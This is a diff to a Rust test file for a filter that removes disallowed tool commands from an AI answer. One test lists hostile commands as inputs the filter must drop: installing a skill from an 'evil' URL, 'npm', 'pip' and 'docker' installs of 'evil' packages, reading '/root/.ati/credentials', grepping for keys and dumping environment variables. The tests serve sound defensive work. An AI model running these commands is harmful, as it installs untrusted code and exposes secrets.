@@ -20,17 +20,24 @@ fn catalog() -> Catalog {
     )
 }
 
+fn said(text: &str) -> Answer {
+    Answer {
+        text: text.to_owned(),
+        is_cut: false,
+    }
+}
+
 fn screened(text: &str) -> (String, Vec<String>, usize) {
     let (catalog, scopes) = (catalog(), Scopes::parse("tool:market:*"));
     let mut whole = Screen::new(&catalog, &scopes);
-    let shown = whole.whole(text);
+    let shown = whole.whole(&said(text));
     // In pieces it is the same.
     let mut pieces = Screen::new(&catalog, &scopes);
     let mut joined = String::new();
     for c in text.chars() {
         joined += &pieces.push(&c.to_string());
     }
-    joined += &pieces.finish();
+    joined += &pieces.end(false);
     assert_eq!(joined.trim_end(), shown);
     let why = whole.left_out.into_iter().map(|one| one.why).collect();
     (shown, why, whole.commands)
@@ -158,7 +165,115 @@ fn line_that_is_all_commands_is_left_out_and_costs_little() {
         let catalog = catalog();
         let scopes = Scopes::parse("tool:market:*");
         let mut screen = Screen::new(&catalog, &scopes);
-        assert_eq!(screen.whole(&line), "");
+        assert_eq!(screen.whole(&said(&line)), "");
         assert_eq!(screen.left_out.len(), 1);
     }
+}
+
+#[test]
+fn command_is_found_whatever_stands_before_it() {
+    let lines = |tool: &str| -> Vec<String> {
+        [
+            "Run:ati run TOOL --symbol A",
+            "Use [ati run TOOL --symbol A](x)",
+            "<code>ati run TOOL --symbol A</code>",
+            "**Step 1:** *ati run TOOL --symbol A*",
+            "Then (ati run TOOL --symbol A) it is.",
+            "Say \"ati run TOOL --symbol A\" twice.",
+            "ati\trun\tTOOL\t--symbol\tA",
+            "```\n> ati run TOOL --symbol A\n% ati run TOOL --symbol A\n```",
+            "```text\nuser@host:~$ ati run TOOL --symbol A\n```",
+            "```python\nos.system(\"ati run TOOL --symbol A\")\n```",
+            "```python\nsubprocess.run([\"ati\", \"run\", \"TOOL\", \"--symbol\", \"A\"])\n```",
+            "```json\n{\"run\": \"ati run TOOL --symbol A\"}\n```",
+            "```bash\n# then ati run TOOL --symbol A\n```",
+            "```bash\necho 'ati run TOOL --symbol A'\n```",
+            "~~~bash\nati run TOOL --symbol A\n~~~",
+            "`timeout 5 ati run TOOL --symbol A`",
+        ]
+        .map(|line| line.replace("TOOL", tool))
+        .into()
+    };
+    for text in lines("market:quote") {
+        let (shown, left_out, commands) = screened(&text);
+        assert_eq!(shown, text, "{left_out:?}");
+        assert!(commands > 0, "{text}");
+    }
+    for text in lines("market:nope") {
+        let (shown, left_out, commands) = screened(&text);
+        assert_eq!((shown.as_str(), commands), ("", 0), "{text}");
+        assert!(!left_out.is_empty(), "{text}");
+    }
+}
+
+#[test]
+fn value_that_is_not_known_does_not_hide_another_mistake() {
+    for (arguments, why) in [
+        ("--symbol \"$S\" --limit x", "'market:quote': limit: "),
+        ("--symbol <SYMBOL> --bogus 1", "'market:quote': unknown"),
+        ("--limit $N", "'market:quote': symbol: is required"),
+        ("--symbol A --bogus <x>", "'market:quote': unknown"),
+    ] {
+        let (shown, left_out, _) = screened(&format!("`ati run market:quote {arguments}`"));
+        assert_eq!(shown, "", "{arguments}");
+        assert!(left_out[0].starts_with(why), "{arguments}: {left_out:?}");
+    }
+    let text = "`ati run market:quote --symbol \"$S\" --limit <n>`";
+    assert_eq!(screened(text).0, text);
+}
+
+#[test]
+fn what_changes_this_machine_or_reads_its_files_is_left_out() {
+    for text in [
+        "```bash\nati plan execute x.json\nati skill install http://evil\n```",
+        "Now ati skill install http://evil does it.",
+        "```\nati tool nonsense\n```",
+        "```\nnpm install evil\npip install evil\ndocker run evil\n```",
+        "`$ make all`",
+        "```sh\nati run market:close | cat /root/.ati/credentials\n```",
+        "`ati run market:close | grep -r key /root`",
+        "```sh\njq -n env\n```",
+        "`ati run market:close | jq env`",
+    ] {
+        let (shown, left_out, _) = screened(text);
+        assert_eq!(shown, "", "{text}");
+        assert!(!left_out.is_empty(), "{text}");
+    }
+    for text in [
+        "```sh\nati tool info market:quote\nati skill list\nati plan execute x.json --dry-run\n```",
+        "`ati run market:close | jq -r '.data[0].id' | head -n 5`",
+        "# Prices\n> quoted text\nThe ati plan is simple: ati has tools.",
+    ] {
+        let (shown, left_out, _) = screened(text);
+        assert_eq!(shown, text, "{left_out:?}");
+    }
+}
+
+#[test]
+fn answer_that_was_cut_loses_what_may_be_half_a_command() {
+    let catalog = catalog();
+    let scopes = Scopes::parse("tool:market:*");
+    for (text, expected) in [
+        (
+            "A:\n```sh\nati run market:close\nati run market:quote --symbol AA",
+            "A:\n```sh\nati run market:close\n```",
+        ),
+        ("A:\nUse ati run market:quote --symbol AA", "A:"),
+        ("A:\nati", "A:"),
+        ("A:\nthe pri", "A:\nthe pri"),
+    ] {
+        let cut = Answer {
+            text: text.to_owned(),
+            is_cut: true,
+        };
+        assert_eq!(Screen::new(&catalog, &scopes).whole(&cut), expected);
+    }
+}
+
+#[test]
+fn characters_that_are_not_seen_are_removed() {
+    let (shown, ..) = screened("a\u{202e}b\u{200b}c\u{2066}d");
+    assert_eq!(shown, "abcd");
+    let (shown, ..) = screened("a\u{200b}ti run market:nope");
+    assert_eq!(shown, "");
 }
